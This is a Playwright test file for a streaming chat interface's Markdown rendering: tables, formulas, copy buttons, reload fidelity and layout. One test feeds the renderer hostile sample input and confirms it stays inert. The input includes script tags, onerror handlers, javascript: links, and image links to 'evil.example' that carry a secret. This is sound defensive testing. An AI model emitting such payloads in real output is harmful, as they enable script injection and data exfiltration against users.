import type { Page } from "@playwright/test";
import { answer, everyMs } from "../upstream/scenario";
import { expect, test } from "./fixtures";

const RICH = `# A heading

A paragraph with **bold words**, *emphasis*, \`code\`, a [link to somewhere](https://example.org/a/long/path) and $E = mc^2$.

| Machine | Year |
| :-- | --: |
| Lettera 22 | 1950 |
| Selectric, "golf ball" | 1961 |

\`\`\`ts
const keys: string[] = ["a", "b"];
for (const key of keys) console.log(key); // one by one
\`\`\`

- first
- second
  - nested **deep**

$$
\\int_0^1 x^2\\,dx = \\frac{1}{3}
$$

> A quotation, with ~~nothing~~ something.

1. one
2. two

Bits&amp;Pieces &copy;&NotEqualTilde; &notit; &semi;

The end.`;

/** Looks at the answer in every frame, and keeps what no reader should have seen. */
async function watchFrames(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen = new Set<string>();
    Object.assign(window, { seen });
    const ugly = [/\*\*/, /\|\s*:?-{2,}/, /\]\(http/, /^\s*```/m, /~~/, /\$\$/, /^#+ /m];
    const look = () => {
      const text = document.querySelector('article[aria-label="Answer"] .answer-text') as HTMLElement | null;
      for (const pattern of ugly) {
        const found = pattern.exec(text?.innerText ?? "");
        if (found !== null)
          seen.add(`${pattern}: ${text?.innerText.slice(Math.max(0, found.index - 30), found.index + 30)}`);
      }
      requestAnimationFrame(look);
    };
    requestAnimationFrame(look);
  });
  return () => page.evaluate(() => [...(window as unknown as { seen: Set<string> }).seen]);
}

/** Elements, classes and words of the last answer. */
function structure(page: Page): Promise<string> {
  return page.evaluate(() => {
    const texts = [...document.querySelectorAll('article[aria-label="Answer"] .answer-text')];
    const walk = (node: Node): string => {
      if (node.nodeType === Node.TEXT_NODE) return node.textContent ?? "";
      if (!(node instanceof Element)) return "";
      const children = [...node.childNodes].map(walk).join("");
      return `<${node.localName} ${node.getAttribute("class") ?? ""}>${children}</>`;
    };
    return walk(texts.at(-1) as Element);
  });
}

test("marks, tables, fences and formulas look finished in every frame", async ({ chat, upstream, page }) => {
  upstream.script(answer(RICH, { deltaSize: 5, pace: everyMs(12) }));
  await chat.open();
  const ugly = await watchFrames(page);
  await chat.say("Everything");
  await chat.settled();
  expect(await ugly()).toEqual([]);
  const text = chat.answers.last();
  await expect(text.getByRole("heading", { name: "A heading" })).toBeVisible();
  await expect(text.getByRole("table")).toContainText("Lettera 22");
  await expect(text.locator("strong").first()).toHaveText("bold words");
  await expect(text.locator("math")).toHaveCount(2);
});

test("an answer that was typed out is the same, element by element, after a reload", async ({
  chat,
  upstream,
  page,
}) => {
  upstream.script(answer(RICH, { deltaSize: 7, pace: everyMs(5) }));
  await chat.open();
  await chat.say("Everything");
  await chat.settled();
  await expect(chat.answers.last().locator("math")).toHaveCount(2);
  await expect(chat.answers.last().locator("code span").first()).toBeVisible();
  await expect(chat.answers.last()).toContainText("Bits&Pieces ©≂̸ &notit; ;");
  const live = await structure(page);
  await page.reload();
  await expect(chat.answers.last().locator("math")).toHaveCount(2);
  await expect.poll(() => structure(page)).toBe(live);
});

test("what is selected in a growing text stays selected, to the end and after it", async ({ chat, upstream, page }) => {
  upstream.script(answer("Select these words while more and more of them arrive. ".repeat(30), { pace: everyMs(15) }));
  await chat.open();
  await chat.say("Go on");
  await expect(chat.answers.last()).toContainText("Select these words while");
  await page.evaluate(() => {
    const walker = document.createTreeWalker(
      document.querySelector('article[aria-label="Answer"] .answer-text p') as Element,
      NodeFilter.SHOW_TEXT,
    );
    const text = walker.nextNode() as Text;
    getSelection()?.setBaseAndExtent(text, 0, text, 18);
  });
  await chat.settled();
  expect(await page.evaluate(() => getSelection()?.toString())).toBe("Select these words");
});

test("an answer can neither run, fetch nor lead astray", async ({ chat, upstream, page }) => {
  const hostile = [
    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'>",
    "",
    "![secret](https://evil.example/?q=secret) <img src='https://evil.example/two'>",
    "",
    "[click](javascript:window.hacked=3) [data](data:text/html,x) <javascript:alert(1)> [fine](https://example.org)",
    "",
    "$\\href{javascript:window.hacked=4}{x}$ and $\\includegraphics{https://evil.example/three}$",
    "",
    "```html\n<script>window.hacked = 5</script>\n```",
  ].join("\n");
  const foreign: string[] = [];
  const complaints: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(chat.url)) foreign.push(request.url());
  });
  page.on("console", (message) => {
    if (message.type() === "error") complaints.push(message.text());
  });
  for (const reload of [false, true]) {
    if (reload) await page.reload();
    else {
      upstream.script(answer(hostile, { pace: everyMs(3) }));
      await chat.open();
      await chat.say("Be hostile");
      await chat.settled();
    }
    await expect(chat.answers.last()).toContainText("<script>window.hacked = 1</script>");
    await expect(chat.answers.last().locator("img, script, iframe")).toHaveCount(0);
    const addresses = await chat.answers
      .last()
      .locator("a[href]")
      .evaluateAll((links) => links.map((link) => [(link as HTMLAnchorElement).protocol, link.getAttribute("rel")]));
    for (const [protocol, rel] of addresses) {
      expect(["https:", "http:", "mailto:"]).toContain(protocol);
      expect(rel).toBe("noopener noreferrer nofollow");
    }
    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
  }
  expect(foreign).toEqual([]);
  expect(complaints).toEqual([]);
});

test("code and tables can be copied", async ({ chat, upstream, page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  upstream.script(answer(RICH));
  await chat.open();
  await chat.say("Everything");
  await chat.settled();
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
  await chat.answers.last().getByRole("button", { name: "Copy code" }).click();
  await expect.poll(clipboard).toContain('const keys: string[] = ["a", "b"];\nfor (const key of keys)');
  await chat.answers.last().getByRole("button", { name: "Copy as CSV" }).click();
  await expect.poll(clipboard).toMatch(/^Machine,Year\r?\nLettera 22,1950\r?\n"Selectric, ""golf ball""",1961\s*$/);
  await chat.answers.last().getByRole("button", { name: "Copy as Markdown" }).click();
  await expect.poll(clipboard).toMatch(/^\| Machine \| Year \|\n\| :-+ \| -+: \|/);
  await chat.answers.last().getByRole("button", { name: "Copy", exact: true }).click();
  await expect.poll(clipboard).toBe(RICH);
});

test("a formula keeps its source, and what is tagged has its number at the edge", async ({
  chat,
  upstream,
  page,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  upstream.script(answer("| a | b |\n| --- | --- |\n| $\\frac{x}{2}$ | 2<br>3 |\n\n$$x = y \\tag{1}$$"));
  await chat.open();
  await chat.say("Mathematics");
  await chat.settled();
  const formulas = chat.answers.last().locator("math");
  await expect(formulas).toHaveCount(2);
  await expect(formulas.first()).toHaveAttribute("alttext", "\\frac{x}{2}");
  await chat.answers.last().getByRole("button", { name: "Copy as Markdown" }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain("| $\\frac{x}{2}$ | 2<br>3 |");
  const tagged = await formulas.last().evaluate((math) => {
    const { left, right } = math.getBoundingClientRect();
    const cells = [...math.querySelectorAll("mtd")].map((cell) => cell.getBoundingClientRect());
    const [formula, number] = [cells[1] as DOMRect, cells.at(-1) as DOMRect];
    return { formulaAt: (formula.left + formula.right - 2 * left) / 2 / (right - left), gap: right - number.right };
  });
  expect(tagged.formulaAt).toBeCloseTo(0.47, 1);
  expect(tagged.gap).toBeLessThan(2);
});

test("equations below each other stand with their signs below each other", async ({ chat, upstream }) => {
  upstream.script(answer("$$\\begin{align}a&=b\\tag{1}\\\\c+d&=e\\end{align}$$"));
  await chat.open();
  await chat.say("Align");
  await chat.settled();
  const formula = chat.answers.last().locator("math");
  await expect(formula).toContainText("(1)");
  const lefts = await formula
    .locator("mo", { hasText: "=" })
    .evaluateAll((signs) => signs.map((sign) => Math.round(sign.getBoundingClientRect().left)));
  const rights = await formula
    .locator("mi", { hasText: /^[ad]$|^[𝑎𝑑]$/u })
    .evaluateAll((letters) => letters.map((letter) => Math.round(letter.getBoundingClientRect().right)));
  expect(lefts).toHaveLength(2);
  expect(rights).toHaveLength(2);
  expect(new Set(lefts).size).toBe(1);
  expect(Math.abs((rights[0] ?? 0) - (rights[1] ?? 99))).toBeLessThanOrEqual(1);
});

test("a diagram is drawn in a frame of its own when asked, and code that is none stays code", async ({
  chat,
  upstream,
}) => {
  upstream.script(answer("```mermaid\ngraph TD; A[Key] --> B[Ribbon]\n```\n\n```mermaid\nnonsense {{{\n```"));
  await chat.open();
  await chat.say("Draw");
  await chat.settled();
  const draw = chat.answers.last().getByRole("button", { name: "Draw" });
  await draw.first().click();
  const frame = chat.answers.last().locator("iframe");
  await expect(frame).toHaveAttribute("sandbox", "allow-scripts", { timeout: 20_000 });
  await expect(frame.contentFrame().locator("svg").first()).toBeVisible({ timeout: 20_000 });
  await draw.last().click();
  await expect(chat.answers.last()).toContainText("nonsense {{{");
});

test("a very long answer is written whole, at the speed it comes", async ({ chat, upstream, page }) => {
  test.setTimeout(120_000);
  await page.addInitScript(() => localStorage.setItem("platen.preferences", JSON.stringify({ speed: "instant" })));
  const sections = Array.from({ length: 120 }, (_, number) => RICH.replace("A heading", `Part ${number}`));
  upstream.script(answer(sections.join("\n\n"), { deltaSize: 120, pace: everyMs(8) }));
  await chat.open();
  await chat.say("A great deal");
  await expect(chat.answers.last().getByRole("heading", { name: "Part 119" })).toBeAttached({ timeout: 90_000 });
  await chat.settled();
  expect(await page.locator(".answer-text *").count()).toBeGreaterThan(3_000);
});

test("long lists, code, tables and many blocks are the same, element by element, after a reload", async ({
  chat,
  upstream,
  page,
}) => {
  test.setTimeout(90_000);
  const lines = (count: number, line: (index: number) => string) => Array.from({ length: count }, (_, i) => line(i));
  const text = [
    lines(200, (index) => `${index + 1}. item **${index}**`).join("\n"),
    `\`\`\`ts\n${lines(100, (index) => `const value${index} = "${index}"; // ${"wide ".repeat(index % 40)}`).join("\n")}\n\`\`\``,
    `| a | b |\n| - | - |\n${lines(80, (index) => `| ${index} | cell |`).join("\n")}`,
    ...lines(150, (index) => `Paragraph ${index}.`),
  ].join("\n\n");
  upstream.script(answer(text, { deltaSize: 60, pace: everyMs(4) }));
  await page.addInitScript(() => localStorage.setItem("platen.preferences", JSON.stringify({ speed: "instant" })));
  await chat.open();
  await chat.say("Everything, at length");
  await chat.settled();
  await expect(chat.answers.last()).toContainText("Paragraph 149.");
  // Whether a block fits is only known once it has come into sight.
  const withoutFits = async () => (await structure(page)).replaceAll(/ ?\bfits\b/g, "");
  const live = await withoutFits();
  await page.reload();
  await expect.poll(withoutFits).toBe(live);
});

test("code that fits does not scroll, and code that does not fit scrolls within the page", async ({
  chat,
  upstream,
  page,
}) => {
  upstream.script(answer(`\`\`\`\nshort\n\`\`\`\n\n\`\`\`\n${"long ".repeat(60)}\n\`\`\`\n\nThe end.`));
  await chat.open();
  await chat.say("Two");
  await chat.settled();
  const overflows = () =>
    chat.answers
      .last()
      .locator("pre")
      .evaluateAll((blocks) => blocks.map((block) => getComputedStyle(block).overflowX));
  await expect.poll(overflows).toEqual(["visible", "auto"]);
  await page.setViewportSize({ width: 320, height: 640 });
  await expect.poll(overflows).toEqual(["visible", "auto"]);
  const room = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
  expect(room[0]).toBe(room[1]);
});

test("key sounds are made only when they are wanted, and loaded only then", async ({ chat, upstream, page }) => {
  await page.addInitScript(() => {
    const heard = { strokes: 0 };
    Object.assign(window, { heard });
    const start = AudioScheduledSourceNode.prototype.start;
    AudioScheduledSourceNode.prototype.start = function (...when) {
      heard.strokes += 1;
      return start.apply(this, when);
    };
    const startBuffer = AudioBufferSourceNode.prototype.start;
    AudioBufferSourceNode.prototype.start = function (...when) {
      heard.strokes += 1;
      return startBuffer.apply(this, when);
    };
  });
  const strokes = () => page.evaluate(() => (window as unknown as { heard: { strokes: number } }).heard.strokes);
  await chat.open();
  await page.getByRole("button", { name: "Settings" }).click();
  await expect(page.getByLabel("Key sounds")).toHaveCount(0);
  await page.getByText("Typewriter", { exact: true }).click();
  await expect(page.getByLabel("Key sounds")).not.toBeChecked();
  await page.keyboard.press("Escape");
  upstream.script(answer("Written in silence, word by word."));
  await chat.say("Quietly");
  await chat.settled();
  expect(await strokes()).toBe(0);
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByLabel("Key sounds").check();
  await page.keyboard.press("Escape");
  upstream.script(answer("And now it can be heard, key by key, word by word. ".repeat(8), { pace: everyMs(30) }));
  await chat.say("Aloud");
  await chat.settled();
  expect(await strokes()).toBeGreaterThan(3);
});

test("a block that fitted scrolls sideways once the page is narrow, and wrapped code fits again", async ({
  chat,
  upstream,
  page,
}) => {
  const line = `const words = ["${"wide ".repeat(10)}"];`;
  upstream.script(answer(`\`\`\`ts\n${line}\n\`\`\`\n\n| a | b |\n| - | - |\n| ${"wide ".repeat(6)} | end |\n\nEnd.`));
  await chat.open();
  await chat.say("Wide");
  await chat.settled();
  const code = chat.answers.last().locator("pre");
  const overflow = () => code.evaluate((pre) => getComputedStyle(pre).overflowX);
  await expect.poll(overflow).toBe("visible");
  await page.setViewportSize({ width: 320, height: 640 });
  await expect.poll(overflow).toBe("auto");
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
  await chat.answers.last().getByRole("button", { name: "Wrap" }).click();
  await expect.poll(overflow).toBe("visible");
  await chat.answers.last().getByRole("button", { name: "Wrap" }).click();
  await expect.poll(overflow).toBe("auto");
});
